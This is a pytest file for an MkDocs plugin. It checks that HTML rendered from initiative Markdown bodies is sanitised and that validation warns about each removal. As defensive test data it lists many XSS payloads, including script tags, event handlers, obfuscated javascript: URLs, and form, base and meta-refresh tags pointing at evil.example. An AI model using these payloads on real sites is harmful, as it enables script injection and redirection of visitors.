"""Initiative bodies are sanitised: the HTML their Markdown becomes keeps what a page may hold
(render/body.py), `portfolio validate` warns about what is taken out at its line, and a
site that trusts its authors can switch it off."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import markdown
import pytest
from corpus import hostile

from portfolio_plugin.cli import main
from portfolio_plugin.model import Initiative
from portfolio_plugin.options import read_config
from portfolio_plugin.pipeline import check
from portfolio_plugin.problems import Severity
from portfolio_plugin.render.body import (
    BODY_END,
    BODY_START,
    body_problems,
    body_removals,
    clean_html,
    clean_page_body,
    mark_body,
)

from support import write_site

EXTENSIONS = ["toc", "tables", "fenced_code", "attr_list", "md_in_html"]


def rendered(body: str) -> str:
    """The body as the site's Markdown renders it, then cleaned."""
    return clean_html(markdown.markdown(body, extensions=EXTENSIONS)).html


def assert_inert(html: str) -> None:
    lowered = html.lower()
    for bad in ("<script", "<iframe", "<object", "<embed", "<form", "<base", "<meta",
                "<link", "<style", " on", "javascript", "vbscript", "data:"):
        assert bad not in lowered, (bad, html)


# -- what is taken out ------------------------------------------------------------------------


@pytest.mark.parametrize("unsafe", [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<img src="pic.png" onerror="alert(1)">',
    '<p onclick="alert(1)">x</p>',
    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<form action="https://evil.example/"><input name="q"><button>Go</button></form>',
    '<object data="movie.swf"></object>',
    '<embed src="movie.swf">',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<p style="background: url(javascript:alert(1))">x</p>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
])
def test_unsafe_html_in_a_body_is_taken_out(unsafe: str) -> None:
    cleaned = clean_html(f"<p>Before.</p>\n{unsafe}\n<p>After.</p>")
    assert_inert(cleaned.html)
    assert cleaned.html.startswith("<p>Before.</p>")
    assert cleaned.removed


@pytest.mark.parametrize("body", [
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x][ref]\n\n[ref]: vbscript:msgbox(1)",
    "[x](https://example.org/){onclick=alert(1)}",
    "<javascript:alert(1)>",
])
def test_markdown_links_and_images_get_the_url_rule_of_front_matter_links(body: str) -> None:
    html = rendered(body)
    assert_inert(html)
    assert body_removals(body, EXTENSIONS)


def test_a_refused_link_keeps_its_text() -> None:
    assert rendered("See [the plan](javascript:alert(1)).") == "<p>See <a>the plan</a>.</p>"


def test_a_cleaned_body_keeps_its_harmless_parts_and_heading_ids() -> None:
    html = rendered("## Results\n\n<script>alert(1)</script>\n\nWe *learned* a lot.")
    assert html == '<h2 id="results">Results</h2>\n\n\n<p>We <em>learned</em> a lot.</p>'


# -- what stays -------------------------------------------------------------------------------


HARMLESS = [
    "<p>Hello <em>there</em>, <strong>you</strong>.</p>",
    '<h2 id="plan">Plan</h2>\n<h3 id="next">Next</h3>',
    "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n<ol start=\"3\">\n<li>three</li>\n</ol>",
    '<table>\n<thead>\n<tr>\n<th style="text-align: left;">Year</th>\n'
    '<th style="text-align: right;">Amount</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n'
    '<td style="text-align: left;">2024</td>\n<td style="text-align: right;">1,000</td>\n'
    "</tr>\n</tbody>\n</table>",
    '<p><abbr title="World Health Organization">WHO</abbr></p>',
    "<details><summary>More</summary><p>Hidden until opened.</p></details>",
    '<figure><img alt="A map" src="map.png" /><figcaption>The map</figcaption></figure>',
    '<p><img alt="Logo" src="https://example.org/logo.png" /></p>',
    "<pre><code>if a &lt; b:\n    print(&quot;&lt;script&gt;&quot;)\n</code></pre>",
    "<p>H<sub>2</sub>O, x<sup>2</sup>, <kbd>Ctrl</kbd>, <mark>new</mark>,<br />next</p>\n<hr />",
    "<blockquote>\n<p>Quoted &amp; kept &para;</p>\n</blockquote>",
    '<p><a href="https://example.org/?a=1&amp;b=2" title="Example">link</a>, '
    '<a href="mailto:team@example.org">mail</a>, <a href="../other/">other</a>, '
    '<a href="#plan">here</a></p>',
    '<h2 id="plan">Plan<a class="headerlink" href="#plan" title="Permanent link">&para;</a>'
    "</h2>",
    '<div class="footnote">\n<hr />\n<ol>\n<li id="fn:1">\n<p>Note.&#160;<a '
    'class="footnote-backref" href="#fnref:1" title="Jump back">&#8617;</a></p>\n</li>\n'
    "</ol>\n</div>",
    "<!-- a comment the author left -->\n<p>Text</p>",
]


@pytest.mark.parametrize("html", HARMLESS)
def test_harmless_html_stays_byte_for_byte(html: str) -> None:
    cleaned = clean_html(html)
    assert cleaned.html == html
    assert cleaned.removed == ()


def test_html_that_runs_on_into_the_page_after_it_is_closed() -> None:
    # Left open, the tag would take in the page's own HTML after the body.
    assert clean_html('<p>a <img src="x.png" title="').html == "<p>a </p>"
    assert clean_html("<p>x</p></div><p>y</p>").html == "<p>x</p><p>y</p>"
    assert clean_html("<p>open <b>bold").html == "<p>open <b>bold</b></p>"


# -- the body in a page -----------------------------------------------------------------------


def test_the_marks_around_a_body_leave_the_page_as_it_was() -> None:
    page = "lead\n\n<!--pf:0-->\n\n{}\n\n## Funding"
    ext = ["md_in_html"]
    before = markdown.markdown(page.format("The body."), extensions=ext)
    after = markdown.markdown(page.format(mark_body("The body.")), extensions=ext)
    assert BODY_START in after and BODY_END in after
    assert clean_page_body(after) == before
    assert clean_page_body(after, sanitise=False) == before


def test_a_page_cleans_only_its_body() -> None:
    html = (f"<p>lead</p>\n<!--pf:0-->\n\n{BODY_START}\n\n<p>x</p>\n<script>alert(1)</script>"
            f"\n{BODY_END}\n\n<!--pf:1-->")
    assert clean_page_body(html) == "<p>lead</p>\n<!--pf:0-->\n\n<p>x</p>\n\n<!--pf:1-->"
    assert "<script>" in clean_page_body(html, sanitise=False)


def test_a_mark_written_in_the_body_does_not_end_the_cleaning_early() -> None:
    html = f"{BODY_START}\n\n<p>x</p>\n{BODY_END}<script>alert(1)</script>\n{BODY_END}\n\n"
    assert "<script" not in clean_page_body(html)


# -- portfolio validate -----------------------------------------------------------------------


def initiative(body: str, body_line: int = 8) -> Initiative:
    from portfolio_plugin.model import Facet, Text, Zone

    return Initiative(slug="a", path="content/initiatives/a.md", title=Text.plain("A"),
                      summary=Text.plain("A"), facet=Facet.ADAPTIVE, zone=Zone.YELLOW,
                      body=body, body_line=body_line)


def test_validate_warns_at_the_line_and_column_of_each_removal() -> None:
    body = ("First paragraph.\n\n"
            "<p>An <img src=\"a.png\" onerror=\"alert(1)\"> image.</p>\n\n"
            "Then [a link](javascript:alert(2)).\n\n"
            "<script>alert(3)</script>\n")
    problems = body_problems(initiative(body), EXTENSIONS)
    assert [(p.line, p.column, p.field, p.severity) for p in problems] == [
        (10, 24, "body", Severity.WARNING),
        (12, 15, "body", Severity.WARNING),
        (14, 1, "body", Severity.WARNING)]
    assert "onerror" in (problems[0].found or "")
    assert "javascript:alert(2)" in (problems[1].found or "")
    assert problems[2].found == "<script>"
    assert all(p.path == "content/initiatives/a.md" for p in problems)


@pytest.mark.parametrize("body", [
    "See [the plan](javascript:alert(1)).\n",
    "See ![the plan](javascript:alert(1)).\n",
    "See [the plan].\n\n[the plan]: javascript:alert(1)\n",
])
def test_validate_warns_about_a_refused_link_in_a_body_without_any_html(body: str) -> None:
    [problem] = body_problems(initiative(body), EXTENSIONS)
    assert problem.severity is Severity.WARNING
    assert "javascript:alert(1)" in (problem.found or "")


def test_a_body_without_html_or_refused_links_is_not_rendered_again() -> None:
    assert body_removals("Plain text with a [link](https://example.org/) and `<code>`?"
                         .replace("`<code>`", "code"), EXTENSIONS) == ()
    assert body_problems(initiative("Plain."), EXTENSIONS) == []


@pytest.fixture
def hostile_body_site(tmp_path: Path) -> Path:
    """A small site whose one initiative has the corpus's hostile body."""

    config = write_site(tmp_path / "site")
    page = config.parent / "docs" / "initiatives" / "alpha.md"
    page.write_text(page.read_text(encoding="utf-8") + "\n" + hostile.BODY, encoding="utf-8")
    return config


def test_portfolio_validate_warns_about_each_hostile_body_payload(
        hostile_body_site: Path, capsys: pytest.CaptureFixture[str]) -> None:
    problems = check(read_config(hostile_body_site))[1]
    body = [p for p in problems if p.field == "body"]
    assert body and all(p.severity is Severity.WARNING for p in body)
    text = (hostile_body_site.parent / "docs" / "initiatives" / "alpha.md").read_text(
        encoding="utf-8").split("\n")
    for key, payload in hostile.BODY_PAYLOADS.items():
        line = next(n for n, written in enumerate(text, 1) if written == payload)
        assert any(p.line == line for p in body), (key, [str(p) for p in body])
    assert main(["-f", str(hostile_body_site), "validate"]) == 0
    assert main(["-f", str(hostile_body_site), "validate", "--strict"]) == 1
    assert "body: the element <script> is removed" in capsys.readouterr().out


def test_a_site_that_turns_sanitising_off_gets_no_body_warnings(hostile_body_site: Path) -> None:
    config = hostile_body_site.read_text(encoding="utf-8").replace(
        "plugins: [portfolio]", "plugins:\n  - portfolio:\n      sanitise_bodies: false")
    hostile_body_site.write_text(config, encoding="utf-8")
    options = read_config(hostile_body_site)
    assert options.sanitise_bodies is False
    assert [p for p in check(options)[1] if p.field == "body"] == []


def build(config: Path, out: Path) -> str:
    env = dict(os.environ, SOURCE_DATE_EPOCH="1731622400", NO_MKDOCS_2_WARNING="1")
    result = subprocess.run([sys.executable, "-m", "mkdocs", "build", "-f", str(config),
                             "-d", str(out)], capture_output=True, text=True, env=env,
                            timeout=600, check=False)
    assert result.returncode == 0, result.stderr[-3000:]
    return result.stderr


def test_the_built_page_holds_no_hostile_body_payload_and_the_option_off_keeps_it(
        hostile_body_site: Path, tmp_path: Path) -> None:
    log = build(hostile_body_site, tmp_path / "on")
    assert "body: the element <script> is removed" in log
    page = (tmp_path / "on" / "initiatives" / "alpha" / "index.html").read_text(
        encoding="utf-8")
    article = page[page.index("<article"):page.index("</article>")]
    assert "alert(" not in article and "<form" not in article and "onerror" not in article
    assert '<img src="photo.png" alt="A photo">' in article  # what is safe of it stays
    assert BODY_START not in page and BODY_END not in page

    config = hostile_body_site.read_text(encoding="utf-8").replace(
        "plugins: [portfolio]", "plugins:\n  - portfolio:\n      sanitise_bodies: false")
    hostile_body_site.write_text(config, encoding="utf-8")
    build(hostile_body_site, tmp_path / "off")
    raw = (tmp_path / "off" / "initiatives" / "alpha" / "index.html").read_text(
        encoding="utf-8")
    assert hostile.BODY_PAYLOADS["script"] in raw
    assert BODY_START not in raw and BODY_END not in raw


@pytest.mark.parametrize("name", list(hostile.REFUSED_URLS))
def test_a_url_refused_in_front_matter_is_refused_in_a_body_too(name: str) -> None:
    from html import escape

    from portfolio_plugin.validate import url_allowed

    url = hostile.REFUSED_URLS[name]
    assert not url_allowed(url)
    cleaned = clean_html(f'<p><a href="{escape(url)}">link</a> <img src="{escape(url)}"></p>')
    assert cleaned.html == "<p><a>link</a> <img></p>"
    assert [r.attribute for r in cleaned.removed] == ["href", "src"]
